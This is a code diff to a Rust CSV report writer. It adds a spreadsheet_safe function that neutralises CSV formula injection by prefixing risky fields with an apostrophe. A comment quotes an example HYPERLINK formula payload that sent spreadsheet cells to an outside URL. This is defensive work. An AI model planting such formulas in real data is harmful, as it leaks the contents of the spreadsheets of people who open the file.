@@ -365,10 +365,23 @@ pub(super) fn status_csv(site: &Site, r: &Routes, out: &mut dyn Write) -> io::Re
                 &words(|d| d.removed_words),
                 &words(|d| d.unchanged_words),
             ];
-            w.write_record(row.map(clean_text).iter().map(|f| f.as_bytes()))?;
+            let row = row.map(|f| spreadsheet_safe(clean_text(f)));
+            w.write_record(row.iter().map(|f| f.as_bytes()))?;
         }
     }
     w.flush()
+}
+
+/// A field a spreadsheet would not take for a formula: one starting with `=`, `+`, `-`,
+/// `@`, a tab or a carriage return gets a leading `'` (OWASP's advice against CSV
+/// injection). A registry title `=HYPERLINK("https://…?"&A2;"Indbrud")` in someone's
+/// content became a live formula in the journalist's Excel, sending cells away.
+fn spreadsheet_safe(s: std::borrow::Cow<'_, str>) -> std::borrow::Cow<'_, str> {
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{s}").into()
+    } else {
+        s
+    }
 }
 
 /// Text without the control characters no data format should carry (tab and line
